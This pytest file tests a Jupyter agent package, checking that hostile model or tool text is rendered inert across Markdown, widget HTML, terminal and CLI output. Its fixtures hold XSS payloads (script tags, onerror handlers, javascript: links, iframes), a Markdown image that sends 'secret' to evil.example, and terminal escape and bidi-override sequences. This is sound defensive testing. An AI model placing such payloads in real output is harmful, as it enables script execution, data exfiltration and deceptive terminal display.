"""Text the product did not write is shown as text, on every display path.

A reply, a tool call or result, a stored title, summary or prompt may carry HTML, a
script, a remote image, a ``javascript:`` link or terminal escape sequences. Each path is
driven with such text: the Markdown a trusted JupyterLab output would render, the HTML of
the panel's widgets and the text a terminal receives must hold none of it live.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import capture_output
from markdown_it import MarkdownIt

from jupyter_agent.agent.events import Notice, TextDelta, ToolCallEnd, ToolCallStart
from jupyter_agent.store import FileStore, SessionState, TodoItem
from jupyter_agent.text import safe_url, terminal_text
from jupyter_agent.ui.display import (
    format_sessions_table,
    format_transcript,
)
from jupyter_agent.ui.panel import SessionsPanel
from jupyter_agent.ui.panel_details import detail_html
from jupyter_agent.ui.render import MarkdownTurnRenderer, PlainTurnRenderer, recap_text

HTML_PAYLOAD = ("<script>window.pwned = 1</script> <img src=x onerror=\"window.pwned=1\"> "
                "<style>* { display: none }</style> [click](javascript:alert(1)) "
                "![](https://evil.example/?d=secret) <iframe src=https://evil.example>")
TERMINAL_PAYLOAD = ("\x1b[2J\x1b[H cleared \x1b]8;;https://evil.example/\x1b\\hidden link"
                    "\x1b]8;;\x1b\\ \x1b]0;title\x07 \u202eoverride\u202c \x9b31m c1 \x07bell")
PAYLOAD = HTML_PAYLOAD + "\n" + TERMINAL_PAYLOAD

_TRUSTING = MarkdownIt("commonmark", {"html": True}).enable("table")
_TRUSTING.validateLink = lambda url: True  # type: ignore[method-assign]
_LIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def assert_inert_markdown(source: str) -> None:
    """``source`` rendered as a trusted JupyterLab output renders it holds no HTML of its
    own, no image and no link with an unsafe scheme."""
    for token in _TRUSTING.parse(source):
        assert token.type != "html_block", source
        for child in token.children or []:
            assert child.type not in ("html_inline", "image"), source
            if child.type == "link_open":
                assert safe_url(str(child.attrGet("href"))), source
    page = _TRUSTING.render(source)
    assert not re.search(r"<(script|img|style|iframe)\b", page), page


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.style = ""
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style += data

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False


def assert_inert_html(value: str) -> None:
    """The HTML of a widget holds no element, attribute or style from the payload."""
    parser = _Tags()
    parser.feed(value)
    for tag, attrs in parser.tags:
        assert tag not in ("script", "img", "iframe"), value
        assert not any(name.startswith("on") for name in attrs), value
        if tag == "a":
            assert safe_url(attrs.get("href") or ""), value
    assert "display: none" not in parser.style and "pwned" not in parser.style


@pytest.fixture
def store(memory_dir: Path) -> FileStore:
    return FileStore(memory_dir)


def assert_inert_terminal(text: str) -> None:
    assert not _LIVE.search(text), repr(text)


def hostile_session(store: FileStore) -> str:
    sid = store.create_session([{"role": "system", "content": "sys"}],
                               title="<img src=x onerror=alert(1)>\x1b[2J\u202eT")
    store.save(sid, [{"role": "system", "content": "sys"},
                              {"role": "user", "content": PAYLOAD},
                              {"role": "assistant", "content": PAYLOAD}])
    store.save(sid, state=SessionState(todos=[TodoItem(id=1, text=PAYLOAD)]))
    store.update(sid, summary=PAYLOAD)
    return sid


def _events() -> list[Any]:
    half = len(PAYLOAD) // 2  # streamed in two pieces cut inside the payload
    return [TextDelta(PAYLOAD[:half]), TextDelta(PAYLOAD[half:]),
            ToolCallStart("c1", "run_python", '{"code": "print(1)  # ' + PAYLOAD.replace(
                "\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"}'),
            ToolCallEnd("c1", "run_python", PAYLOAD, True),
            ToolCallStart("c2", "add_todo", '{"text": "<img src=x onerror=alert(1)>"}'),
            ToolCallEnd("c2", "add_todo", HTML_PAYLOAD, True),
            Notice(HTML_PAYLOAD), TextDelta("done " + HTML_PAYLOAD)]


def test_a_turn_streamed_and_final_shows_hostile_text_as_text(shell: InteractiveShell) -> None:
    renderer = MarkdownTurnRenderer(live=True, min_interval=0)
    with capture_output() as captured:
        for event in _events():
            renderer(event)
        renderer.finish(footer="── footer")
    assert len(captured.outputs) > 5
    for output in captured.outputs:  # every update while it streamed, and the last
        assert_inert_markdown(output.data["text/markdown"])
        assert_inert_terminal(output.data["text/plain"])
    final = _TRUSTING.render(captured.outputs[-1].data["text/markdown"])
    assert "&lt;img src=x onerror=&quot;window.pwned=1&quot;&gt;" in final  # shown as typed
    assert '<a href="https://evil.example/?d=secret">image: </a>' in final


def test_the_terminal_renderer_writes_no_escape_sequences(
        capsys: pytest.CaptureFixture[str]) -> None:
    renderer = PlainTurnRenderer()
    for event in _events():
        renderer(event)
    renderer(TextDelta("split \x1b["))  # a sequence cut between two deltas
    renderer(TextDelta("2J here"))
    renderer.finish()
    out = capsys.readouterr().out
    assert_inert_terminal(out)
    assert "cleared" in out and "hidden link" in out and "\ufffdoverride" in out


def test_the_recap_and_history_show_hostile_text_as_text(store: FileStore) -> None:
    record = store.load_session(hostile_session(store))
    markdown = recap_text(record).markdown
    assert_inert_markdown(markdown)
    assert "image: " in _TRUSTING.render(markdown)  # the summary's image, as a link
    for text in (recap_text(record).plain, format_transcript(record.messages),
                 format_transcript(record.transcript, record.compactions)):
        assert_inert_terminal(terminal_text(text))


def test_history_and_recap_in_a_terminal_print_no_escape_sequences(
        agent_shell: InteractiveShell, store: FileStore,
        capsys: pytest.CaptureFixture[str]) -> None:
    shell = agent_shell
    sid = hostile_session(store)
    shell.run_line_magic("agent_resume", sid)
    shell.run_line_magic("agent_history", "")
    shell.run_line_magic("agent_history", "--full")
    shell.run_line_magic("agent_sessions", "")
    shell.run_line_magic("agent_todo", "")
    out = capsys.readouterr().out
    assert "<img src=x onerror=alert(1)>" in out and "cleared" in out  # text, as text
    assert_inert_terminal(out)


def test_history_in_jupyter_is_printed_as_text(make_shell: Any, store: FileStore,
                                               model_server: Any) -> None:
    class ZMQInteractiveShell(InteractiveShell):  # the name is how Jupyter is detected
        pass

    shell = make_shell(cls=ZMQInteractiveShell)
    shell.run_line_magic("config", f'AgentMagics.base_url = "{model_server.base_url}"')
    sid = hostile_session(store)
    with capture_output() as captured:
        shell.run_line_magic("agent_resume", sid)
        shell.run_line_magic("agent_history", "")
    for output in captured.outputs:
        if "text/markdown" in output.data:
            assert_inert_markdown(output.data["text/markdown"])
        assert "text/html" not in output.data
    assert "<script>window.pwned = 1</script>" in captured.stdout  # a stream: plain text
    assert_inert_terminal(captured.stdout)


def test_panel_rows_and_details_show_hostile_text_as_text(store: FileStore) -> None:
    sid = hostile_session(store)
    panel = SessionsPanel(store)
    try:
        (row,) = panel.rows
        slot = panel._slots[0]
        for value in (slot.info.value, slot.meta.value):
            assert_inert_html(value)
        assert "&lt;img src=x onerror=alert(1)&gt;" in slot.info.value
        row.details.click()
        assert panel._details.selected is not None and panel._errors.value == ""
        assert_inert_html(panel._details.head.value)
        assert_inert_html(panel._details.text.value)
        assert 'href="https://evil.example/?d=secret"' in panel._details.text.value  # a link
        row.delete.click()
        assert_inert_html(panel._confirm_text.value)
        assert_inert_terminal(panel.text_table())
    finally:
        panel.close()
    assert_inert_html(detail_html(store.load_session(sid)))


def test_the_sessions_table_shows_no_escape_sequences(store: FileStore) -> None:
    hostile_session(store)
    table = format_sessions_table(store.list_sessions())
    assert_inert_terminal(table)
    assert "<img src=x onerror=alert(1)>" in table


def test_terminal_text_strips_sequences_and_marks_controls() -> None:
    assert terminal_text("a\x1b[2Jb\x1b]8;;https://e/\x1b\\c\x1b]8;;\x07d") == "abcd"
    assert terminal_text("x\r\ny\rz\tw\n") == "x\ny\nz\tw\n"
    assert terminal_text("\u202eabc\u2066\x00\x9b") == "\ufffdabc\ufffd\ufffd"
    assert terminal_text("über — 日本") == "über — 日本"


def test_cli_list_and_show_print_no_escape_sequences(store: FileStore, memory_dir: Path
                                                      ) -> None:
    from tests.cli.helpers import run_cli

    sid = hostile_session(store)
    for args in (("list",), ("show", sid), ("show", sid, "--transcript"), ("search", "cleared"),
                 ("show", sid, "--json"), ("list", "--json")):
        done = run_cli(*args)
        assert done.returncode == 0, done.stderr
        assert_inert_terminal(done.stdout)
        assert_inert_terminal(done.stderr)
    assert "<img src=x onerror=alert(1)>" in run_cli("show", sid).stdout
